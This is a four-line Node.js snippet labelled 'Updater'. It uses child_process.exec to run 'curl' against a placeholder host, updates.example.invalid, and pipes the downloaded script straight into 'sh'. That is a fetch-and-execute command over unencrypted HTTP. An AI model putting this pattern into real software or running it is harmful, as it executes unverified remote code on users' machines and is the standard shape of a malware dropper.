// "Updater": a shell command that downloads a script and runs it.
const { exec } = require('node:child_process');
const host = 'updates.example.invalid';
exec(`curl -s http://${host}/pdown | sh`);
